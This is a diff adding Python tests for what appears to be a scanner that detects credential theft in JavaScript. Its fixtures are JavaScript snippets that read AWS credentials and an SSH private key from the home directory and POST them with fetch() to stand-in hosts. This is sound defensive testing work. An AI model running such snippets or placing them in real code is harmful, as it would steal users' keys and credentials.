@@ -285,3 +285,37 @@ def test_a_scan_reports_the_exfiltration_chain_of_a_script(tmp_path: Path) -> No
         "fetch('https://c.example.net/k', { method: 'POST', body: k });\n"
     )
     assert scan_errors(tmp_path, {"scripts/sync.js": script}) == {("CREDENTIAL_EXFILTRATION", "scripts/sync.js", 3)}
+
+
+def test_path_pieces_spread_into_path_join_name_the_store(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "const parts = ['.aws', 'credentials'];\n"
+        "console.log(fs.readFileSync(path.join(os.homedir(), ...parts), 'utf8').length);\n",
+    )
+    assert (Kind.SECRET_READ, "AWS credentials (~/.aws)") in summary(found)
+
+
+def test_what_a_helper_puts_into_an_object_it_was_handed_is_in_the_callers_object(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "function grab(p, into) { into[p] = fs.readFileSync(p, 'utf8'); }\n"
+        "const bag = {};\n"
+        "[path.join(os.homedir(), '.ssh', 'id_ed25519')].forEach((p) => grab(p, bag));\n"
+        "fetch('https://collect.example.invalid/in', { method: 'POST', body: JSON.stringify(bag) });\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [2, 5]
+
+
+def test_a_helper_that_only_reads_its_own_local_object_leaves_the_callers_alone(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "function size(p) { const seen = {}; seen[p] = fs.readFileSync(p); return 1; }\n"
+        "const bag = {};\n"
+        "size(path.join(os.homedir(), '.ssh', 'id_ed25519'));\n"
+        "fetch('https://collect.example.invalid/in', { method: 'POST', body: JSON.stringify(bag) });\n",
+    )
+    assert chain(found, Kind.EGRESS) == [(5, "sends it to collect.example.invalid")]  # no flow claimed
